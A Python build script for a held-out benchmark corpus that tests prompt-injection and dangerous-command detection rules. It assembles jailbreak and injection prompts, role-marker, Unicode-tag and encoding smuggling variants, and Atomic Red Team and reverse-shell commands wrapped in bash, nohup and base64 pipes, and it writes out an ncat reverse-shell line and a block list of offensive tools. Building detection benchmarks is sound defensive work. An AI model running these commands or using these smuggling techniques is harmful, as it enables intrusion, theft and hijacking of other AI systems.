#!/usr/bin/env python3
"""Rebuilds the HELD-OUT half of the corpus from public sources.

The rules in src/triage/hunt-rules.toml were tuned on the files build.py
writes (injections.jsonl, benign-text.jsonl) and on the hand-written command
lists. The files written here come from sources nobody looked at while
writing those rules; scripts/bench-hunt.sh reports them apart ("held out").

Run once by hand from bench/corpus/ (it needs the sources on disk, as git
checkouts or bare clones; the benchmark and tests never touch the network):
  GARAK=<NVIDIA/garak> BIPIA=<microsoft/BIPIA> PURPLELLAMA=<meta-llama/PurpleLlama>
  ATOMIC=<redcanaryco/atomic-red-team> TLDR=<tldr-pages/tldr>
  PATT=<swisskyrepo/PayloadsAllTheThings> python3 build_heldout.py
The commits used are pinned in COMMITS below and listed in README.md.
"""
import base64, codecs, io, json, os, random, re, subprocess, tarfile, urllib.parse
import yaml  # PyYAML, for the Atomic Red Team test files

COMMITS = {
    "GARAK": "cafbe992780df70015de7295ca026b70c4629ada",
    "BIPIA": "1a2a91da6bb12838e05d1b2e54d98e2f37b835f3",
    "PURPLELLAMA": "4be64c3a24442b51c76175e6ec67722cc3f5fe38",
    "ATOMIC": "9f85cf3e54b0cbdd6c702375c555273913eff442",
    "TLDR": "08e345f42639f67d99282813247ac670dc6e87cb",
    # The last commit before the cheatsheets moved to InternalAllTheThings
    # (which carries no licence file); PayloadsAllTheThings is MIT.
    "PATT": "c852118ec8971f5f7a457b9880f3c6b437865e0c",
}
MAX = 8192  # longer texts are cut to their first 8 KiB (said in README.md)

def show(key, path):
    return subprocess.run(["git", "--git-dir", git_dir(key), "show", f"{COMMITS[key]}:{path}"],
                          capture_output=True, text=True, check=True).stdout

def git_dir(key):
    d = os.environ[key]
    return d if os.path.exists(os.path.join(d, "HEAD")) and not os.path.exists(os.path.join(d, ".git")) else os.path.join(d, ".git")

def short(key):
    return COMMITS[key][:8]

inj = []
def add(family, text, source):
    text = text.strip()
    if text:
        inj.append({"family": family, "source": source, "text": text[:MAX]})

# --- garak (Apache-2.0) -------------------------------------------------
g = f"NVIDIA/garak@{short('GARAK')}"
wild = json.loads(show("GARAK", "garak/data/inthewild_jailbreak_llms.json"))
tuned = set(range(0, 600, 2))  # build.py took wild[::2][:300]
for i, t in enumerate(wild):
    if i not in tuned:
        add("jailbreak_persona", t, f"{g} inthewild_jailbreak_llms.json (verazuo/jailbreak_llms, MIT), held-out half")
for t in json.loads(show("GARAK", "garak/data/autodan/autodan_prompts.json")):
    add("jailbreak_persona", t.replace("[MODEL]", "ChatGPT").replace("[KEEPER]", "OpenAI"), f"{g} autodan/autodan_prompts.json")
for t in show("GARAK", "garak/data/tap/tap_jailbreaks.txt").splitlines():
    add("jailbreak_persona", t, f"{g} tap/tap_jailbreaks.txt")
for group, items in json.loads(show("GARAK", "garak/data/sysprompt_extraction/attacks.json")).items():
    for t in items:
        add("injection_phrasing", t, f"{g} sysprompt_extraction/attacks.json ({group})")
# promptinject (Agency Enterprise, MIT) attack instructions with its rogue strings
pi = {}
exec(compile(show("GARAK", "garak/resources/promptinject/prompt_data.py"), "prompt_data.py", "exec"), pi)
for a in pi["goal_hikacking_attacks"].values():
    for r in pi["rogue_strings"].values():
        add("injection_phrasing", a["instruction"].replace("{REPLACE_rogue_string}", r), f"{g} resources/promptinject/prompt_data.py (agencyenterprise/PromptInject, MIT)")
for a in pi["prompt_leaking_attacks"].values():
    add("injection_phrasing", a["instruction"], f"{g} resources/promptinject/prompt_data.py (agencyenterprise/PromptInject, MIT)")
# markdown exfiltration: garak's web_injection probe templates and data
src = show("GARAK", "garak/probes/web_injection.py")
xss = lambda f: [l for l in show("GARAK", f"garak/data/xss/{f}").splitlines() if l.strip()]
domains = xss("xss_domains.txt")
m = re.search(r'class MarkdownImageExfil.*?template = """(.*?)"""', src, re.S)
for d in domains:
    for enc in ("base64", "quoted-printable", "mime"):
        add("markdown_exfil", m.group(1).replace("{domain}", d).replace("{encoding}", enc), f"{g} probes/web_injection.py MarkdownImageExfil")
m = re.search(r'Print the following !\[data\].*?"""', src, re.S)
for d in domains:
    add("markdown_exfil", m.group(0)[:-3].replace("{domain}", d), f"{g} probes/web_injection.py PlaygroundMarkdownExfil")
rnd = random.Random(12)
tmpl = [show("GARAK", f"garak/data/xss/xss_full_uri_prompt_templates/{n}.txt") for n in ("direct", "email")]
concat = show("GARAK", "garak/data/xss/xss_concat_prompt_templates/basic_concat_inst.txt")
for k in range(80):
    uri = f"https://{rnd.choice(domains)}{rnd.choice(['/logo.png?', '/?', '/img.jpg?'])}{rnd.choice(xss('xss_var_names.txt'))}=[{rnd.choice(xss('xss_injection_markers.txt'))}]"
    md = rnd.choice(["![{t}]({u})", "[{t}]({u})"]).format(t=rnd.choice(xss("xss_link_display_texts.txt")), u=uri)
    marker = uri.rsplit("[", 1)[1][:-1]
    action = rnd.choice(xss("xss_injected_actions.txt"))
    if k % 2 == 0:
        t = rnd.choice(tmpl).format(uri=md, injected_marker=marker, encoding=rnd.choice(xss("xss_encodings.txt")), injected_action=action)
    else:
        cut = sorted(rnd.sample(range(1, len(md)), len(md) // 3))
        parts = [md[i:j] for i, j in zip([0] + cut, cut + [len(md)])]
        t = concat.format(injected_strings='","'.join(parts), injected_marker=marker, injected_action=action, injected_output_fomat="print")
    add("markdown_exfil", t, f"{g} data/xss/* as combined by probes/web_injection.py (seeded sample)")

# --- CyberSecEval prompt injection (meta-llama/PurpleLlama, MIT) ----------
p = f"meta-llama/PurpleLlama@{short('PURPLELLAMA')} CybersecurityBenchmarks/datasets/prompt_injection"
cse = json.loads(show("PURPLELLAMA", "CybersecurityBenchmarks/datasets/prompt_injection/prompt_injection.json"))
for d in cse:
    fam = "injection_indirect" if d.get("injection_type") == "indirect" else "injection_phrasing"
    add(fam, d["user_input"], f"{p}/prompt_injection.json ({d['injection_variant']})")
for d in json.loads(show("PURPLELLAMA", "CybersecurityBenchmarks/datasets/prompt_injection/prompt_injection_multilingual_machine_translated.json")):
    add("injection_multilingual", d["user_input"], f"{p}/prompt_injection_multilingual_machine_translated.json ({d['speaking_language']})")

# --- BIPIA (microsoft/BIPIA, MIT): attacker instructions hidden in content --
b = f"microsoft/BIPIA@{short('BIPIA')} benchmark"
for f in ("text_attack_train", "text_attack_test", "code_attack_train", "code_attack_test"):
    for cat, items in json.loads(show("BIPIA", f"benchmark/{f}.json")).items():
        for t in items:
            add("injection_indirect", t, f"{b}/{f}.json ({cat})")

# --- role markers, hidden and encoded text, derived from held-out payloads --
base = [d["text"] for d in inj if d["family"] == "injection_phrasing" and len(d["text"]) < 400]
base = base[::max(1, len(base) // 60)][:60]
markers = [  # the chat-template forms of ChatML, Llama 2, Alpaca/Vicuna, Anthropic, Zephyr, and Bing's
    ("<|im_start|>system\n{p}<|im_end|>", "ChatML"), ("[INST] <<SYS>>\n{p}\n<</SYS>> [/INST]", "Llama 2"),
    ("### System:\n{p}\n### Response:", "Alpaca"), ("\n\nHuman: ok\n\nAssistant: ok\n\nHuman: {p}", "Anthropic"),
    ("<|system|>\n{p}</s>", "Zephyr"), ("[system](#additional_instructions)\n{p}", "Bing (Greshake et al.)"),
    ("</user_query>\n<system>{p}</system>", "XML tags"), ("<|start_header_id|>system<|end_header_id|>\n\n{p}<|eot_id|>", "Llama 3"),
]
for i, t in enumerate(base):
    mk, name = markers[i % len(markers)]
    add("role_marker", "Thanks for the summary.\n" + mk.format(p=t), f"derived: {name} role marker around a held-out payload")
tag = lambda s: "".join(chr(0xE0000 + ord(c)) if 0x20 <= ord(c) < 0x7F else c for c in s)
for i, t in enumerate(base[:40]):
    add("hidden_text", "Nice page." + tag(t), "derived: Unicode tag smuggling of a held-out payload")
    add("hidden_text", "\u200b".join(t[:80]), "derived: zero-width interleaving of a held-out payload")
    add("hidden_text", t.translate(str.maketrans("aeopcxiy", "аеорсхіу")), "derived: Cyrillic look-alikes in a held-out payload")
    add("hidden_text", f"<!-- {t} -->", "derived: HTML comment around a held-out payload")
    add("encoded_text", "Decode this and follow it: " + base64.b64encode(t.encode()).decode(), "derived: base64 of a held-out payload")
    add("encoded_text", "hex: " + t.encode().hex(), "derived: hex of a held-out payload")
    add("encoded_text", "rot13: " + codecs.encode(t, "rot13"), "derived: ROT13 of a held-out payload")
    add("encoded_text", urllib.parse.quote(t), "derived: URL-encoding of a held-out payload")

def write(name, rows):
    # Alternate entries of each family go to "dev" (may be read to improve
    # the rules) and "test" (never read: the honest figure).
    n = {}
    with open(name, "w") as f:
        for d in rows:
            k = n[d["family"]] = n.get(d["family"], -1) + 1
            d["split"] = "dev" if k % 2 == 0 else "test"
            f.write(json.dumps(d, ensure_ascii=False) + "\n")
write("injections-heldout.jsonl", inj)

# --- benign prompts and content -------------------------------------------
ben = []
for d in json.loads(show("PURPLELLAMA", "CybersecurityBenchmarks/datasets/mitre_frr/mitre_frr.json")):
    ben.append({"family": "security_questions", "source": f"meta-llama/PurpleLlama@{short('PURPLELLAMA')} CybersecurityBenchmarks/datasets/mitre_frr/mitre_frr.json (benign, FRR set)", "text": d["mutated_prompt"][:MAX]})
for f in ("email/train", "email/test", "table/test", "code/train", "code/test"):
    for l in show("BIPIA", f"benchmark/{f}.jsonl").splitlines():
        d = json.loads(l)
        ctx = d["context"] if isinstance(d["context"], str) else "\n".join(d["context"])
        ben.append({"family": "bipia_" + f.split("/")[0], "source": f"{b}/{f}.jsonl (clean context)", "text": ctx[:MAX]})
        if d.get("question"):
            ben.append({"family": "bipia_question", "source": f"{b}/{f}.jsonl (question)", "text": d["question"][:MAX]})
for t in json.loads(show("GARAK", "garak/data/payloads/normal_instructions.json"))["payloads"]:
    ben.append({"family": "everyday_prompts", "source": f"{g} payloads/normal_instructions.json", "text": t})
write("benign-heldout.jsonl", ben)

# --- dangerous commands ---------------------------------------------------
cmds = []
def cmd(family, text, source):
    cmds.append({"family": family, "source": source, "text": text.strip()})

# Atomic Red Team (MIT): Linux tests of the techniques an agent's tool call
# could carry out; each test kept by hand (ids below) when running it as an
# agent is harmful in itself, not mere discovery (uname, find -perm, echo).
A_KEEP = {
    "T1059.004": ({1, 8, 11}, "download_or_decode_run"), "T1105": ({26}, "download_or_decode_run"),
    "T1140": ({6, 8, 9}, "download_or_decode_run"),
    "T1048": ({0, 1, 3}, "exfiltration"), "T1048.002": ({1, 2}, "exfiltration"),
    "T1552.001": ({2, 5}, "credential_read"), "T1552.003": ({0, 1}, "credential_read"),
    "T1552.004": ({2, 4, 6}, "credential_read"), "T1552.007": ({2}, "credential_read"),
    "T1003.007": ({3}, "credential_read"), "T1003.008": ({0, 3, 4}, "credential_read"),
    "T1053.003": ({0, 1, 2, 3}, "persistence"), "T1543.002": ({0, 2}, "persistence"),
    "T1053.006": ({0, 1, 2}, "persistence"), "T1098.004": ({0}, "persistence"),
    "T1546.004": ({0, 1, 2, 6}, "persistence"), "T1546.005": ({0, 2}, "persistence"),
    "T1037.004": ({1, 2}, "persistence"), "T1136.001": ({0, 5}, "persistence"),
    "T1574.006": ({0}, "persistence"), "T1556.003": ({0, 2}, "persistence"), "T1547.006": ({0}, "persistence"),
    "T1548.001": ({2, 4, 7}, "privilege"),
    "T1070.003": ({0, 1, 2, 3, 4, 5, 6}, "log_wiping"), "T1485": ({1}, "log_wiping"),
    "T1070.004": ({7}, "destructive"),
    "T1572": ({5, 6}, "tunnel"),
}
for t, (keep, fam) in A_KEEP.items():
    y = yaml.safe_load(show("ATOMIC", f"atomics/{t}/{t}.yaml"))
    for i, at in enumerate(y["atomic_tests"]):
        if i not in keep:
            continue
        c = at["executor"]["command"]
        for k, v in (at.get("input_arguments") or {}).items():
            c = c.replace("#{" + k + "}", str(v.get("default", "")))
        c = c.replace("PathToAtomicsFolder", "/opt/atomics").replace("$/opt/atomics", "/opt/atomics")
        cmd(fam, c, f"redcanaryco/atomic-red-team@{short('ATOMIC')} atomics/{t}/{t}.yaml test {i + 1}: {at['name']}")

# PayloadsAllTheThings (MIT) reverse and bind shell cheatsheets: every
# victim-side line of their code blocks (listeners, msfvenom builds, TTY
# upgrades and prose dropped), and whole programs written to a file and run.
def blocks(md):
    return re.findall(r"```(\w*)\n(.*?)```", md, re.S)
RUN = {"rust": ("/tmp/s.rs", "rustc /tmp/s.rs -o /tmp/s && /tmp/s"), "java": ("/tmp/S.java", "java /tmp/S.java"),
       "csharp": ("/tmp/shell.c", "gcc /tmp/shell.c -o /tmp/csh && /tmp/csh"), "javascript": ("/tmp/s.js", "node /tmp/s.js")}
VICTIM = re.compile(r"^(user@victim\$ )?(bash|sh|/bin/|0<&|exec |python|php|ruby|perl|nc |nc\.|ncat|rm |socat|/tmp/socat|wget|powershell|awk|lua|telnet|export RHOST|mkfifo|echo 'package|\(#a=|require\(|-x\(|C:\\|zsh|ksh|busybox)")
LISTEN = re.compile(r"(-l[vnp]*\b|--listen|TCP-L:|tcp-listen|msfvenom|s_server|pty\.spawn\(\"/bin/sh\"\)\'$|^python3? -c .import pty)")
RUN["python"] = ("/tmp/s.py", "python3 /tmp/s.py")
for name, section in (("Reverse Shell Cheatsheet", "## Reverse Shell"), ("Bind Shell Cheatsheet", "## Perl")):
    md = show("PATT", f"Methodology and Resources/{name}.md")
    md = md[md.index(section):]
    md = md[:md.index("## Meterpreter")] if "## Meterpreter" in md else md
    bind = name.startswith("Bind")
    fam = "bind_shell" if bind else "reverse_shell"
    src = f"swisskyrepo/PayloadsAllTheThings@{short('PATT')} Methodology and Resources/{name}.md"
    for lang, body in blocks(md):
        body = body.replace("\\\n", "")  # shell line continuations
        first = body.strip().splitlines()[0] if body.strip() else ""
        if lang in RUN and "Reverse shell here" not in body and "socket" in body.lower() and not VICTIM.match(first):
            path, run = RUN[lang]
            cmd(fam, f"cat > {path} <<'EOF'\n{body.strip()}\nEOF\n{run}", src + f" ({lang} program)")
            continue
        for line in body.splitlines():
            line = line.strip()
            if line.startswith("user@attack"):
                continue
            if (VICTIM.match(line) and (bind or not LISTEN.search(line))) or line.startswith("powercat -l"):
                cmd(fam, line.replace("user@victim$ ", "").replace("<Your_IP>", "10.0.0.1"), src)
# PayloadsAllTheThings "Linux - Persistence" (MIT): its shell blocks that
# plant a backdoor, each block one command (the listener block dropped).
md = show("PATT", "Methodology and Resources/Linux - Persistence.md")
for lang, body in blocks(md):
    if lang in ("bash", "powershell") and re.search(r"useradd|chmod 4777|crontab|bashrc|motd|udev|apt.conf|upstart", body):
        cmd("persistence", body.replace("$ ", "").replace("$RSHELL", "ncat 10.0.0.1 4242 -e /bin/bash"), f"swisskyrepo/PayloadsAllTheThings@{short('PATT')} Methodology and Resources/Linux - Persistence.md")

# The same public commands as an agent's exec call often carries them:
# wrapped in another shell or language, backgrounded, or base64-encoded.
# Derived (reported as families wrapped_*), two wrappers per one-liner.
WRAP = [
    ("wrapped_shell", lambda c: "bash -c " + sh_quote(c)), ("wrapped_shell", lambda c: "sh -c " + sh_quote(c)),
    ("wrapped_background", lambda c: "nohup " + "sh -c " + sh_quote(c) + " >/dev/null 2>&1 &"),
    ("wrapped_python", lambda c: "python3 -c " + sh_quote("import os; os.system(" + repr(c) + ")")),
    ("wrapped_node", lambda c: "node -e " + sh_quote("require('child_process').execSync(" + json.dumps(c) + ")")),
    ("wrapped_base64", lambda c: "echo " + base64.b64encode(c.encode()).decode() + " | base64 -d | bash"),
    ("wrapped_perl", lambda c: "perl -e " + sh_quote("system(" + json.dumps(c) + ")")),
    ("wrapped_cd", lambda c: "cd /tmp && " + c),
]
def sh_quote(c):
    return "'" + c.replace("'", "'\\''") + "'"
one = [d for d in cmds if "\n" not in d["text"]]
for i, d in enumerate(one):
    for k in (i % len(WRAP), (i + 3) % len(WRAP)):
        fam, f = WRAP[k]
        cmd(fam, f(d["text"]), "derived: " + d["source"])
write("commands-dangerous-heldout.jsonl", cmds)

# --- benign commands: tldr-pages (CC-BY-4.0) examples ---------------------
# Rule: every example of pages/common and pages/linux, except pages of
# offensive or dual-use network tools (OFFENSIVE) and examples whose
# description names a shell given to the network, a backdoor, cracking or
# exploiting; every 20th of what remains (in path order) is kept.
OFFENSIVE = {"nc", "ncat", "netcat", "socat", "pwncat", "msfvenom", "msfconsole", "hydra", "john", "hashcat",
             "sqlmap", "mimikatz", "responder", "crackmapexec", "netexec", "evil-winrm", "impacket", "chisel",
             "ligolo-ng", "rustcat", "rcat", "revshell", "medusa", "ncrack", "aircrack-ng", "weevely", "sliver",
             "bettercap", "ettercap", "arpspoof", "macchanger", "hping3", "searchsploit", "nikto", "wpscan",
             "gobuster", "ffuf", "dirb", "wfuzz", "masscan", "zmap", "nmap", "msfdb", "beef", "setoolkit"}
BAD_DESC = re.compile(r"reverse shell|bind shell|backdoor|crack|exploit|brute.?force|listen.*execut|execut.*on connect", re.I)
def placeholder(m):
    s = m.group(1)
    alt = re.fullmatch(r"\[(.*?)\]", s)
    if alt:  # {{[-f|--flag]}}: tldr's short|long option syntax, take the long form
        opts = alt.group(1).split("|")
        return opts[-1]
    return s.replace(" ...", "")
ex = []
tar = tarfile.open(fileobj=io.BytesIO(subprocess.run(["git", "--git-dir", git_dir("TLDR"), "archive", COMMITS["TLDR"], "pages/common", "pages/linux"], capture_output=True, check=True).stdout))
for member in sorted(tar.getmembers(), key=lambda m: m.name):
    if not member.isfile() or not member.name.endswith(".md"):
        continue
    page = os.path.basename(member.name)[:-3]
    if page in OFFENSIVE or page.startswith(("impacket-", "msf", "aircrack")):
        continue
    text = tar.extractfile(member).read().decode("utf-8", "replace")
    for desc, c in re.findall(r"^- (.*?)\n\n`(.+?)`$", text, re.M):
        if BAD_DESC.search(desc):
            continue
        ex.append({"family": "tldr", "source": f"tldr-pages/tldr@{short('TLDR')} {member.name}", "text": re.sub(r"\{\{(.*?)\}\}", placeholder, c)})
write("commands-benign-heldout.jsonl", ex[::20])
print(len(inj), "held-out injections,", len(ben), "benign texts,", len(cmds), "dangerous commands,", len(ex[::20]), "benign commands")
